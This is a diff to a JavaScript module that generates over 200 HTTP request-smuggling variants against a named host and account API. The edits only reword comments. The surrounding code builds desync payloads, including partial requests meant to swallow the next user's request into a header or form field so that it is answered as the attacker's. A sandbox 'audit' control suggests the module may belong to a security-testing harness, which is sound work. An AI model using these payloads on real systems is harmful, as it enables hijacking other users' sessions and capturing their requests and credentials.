@@ -1,6 +1,6 @@
 /**
- * Requests that two servers may find the end of at different places (request smuggling): each framing trick with each
- * smuggled request, 200 and more in all.
+ * Request smuggling: requests whose end two servers may see at different positions. Each framing trick is combined with
+ * each smuggled request, more than 200 in all.
  * @module
  */
 
@@ -47,7 +47,7 @@ export function desyncVariants({ host, origin, cookie }) {
   const smuggled = {
     'a whole request': `GET /api/account.getInfo?v=2.35&locale=en HTTP/1.1\r\n${own}\r\n\r\n`,
     'a control': `POST /__sandbox/audit HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 0\r\n\r\n`,
-    // What follows on the connection becomes a header of it: the next player's request is answered as the attacker's.
+    // The next request on the connection becomes a header value of this one, and is answered as the attacker's.
     'half a request': `GET /api/account.getInfo?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nX-Swallow: `,
     'half a form': `POST /api/account.changelocale?v=2.35&locale=en HTTP/1.1\r\n${own}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200\r\n\r\nlocale=`,
   };
@@ -73,7 +73,7 @@ export function desyncVariants({ host, origin, cookie }) {
       add(`${encoding} beside a length`, starts[2], what, `Content-Length: 5\r\n${encoding}`, `0\r\n\r\n${hidden}`);
     for (const upgrade of UPGRADES) add(upgrade, starts[0], what, upgrade, hidden);
     for (const start of starts.slice(3)) add('a length', start, what, `Content-Length: ${hidden.length}`, hidden);
-    // Without any trick: a request that follows on the same connection is the attacker's own and harms nobody.
+    // No framing trick: the second request on the connection is the attacker's own and does no harm.
     add('pipelined', starts[0], what, 'Content-Length: 0', hidden);
   }
   return variants;
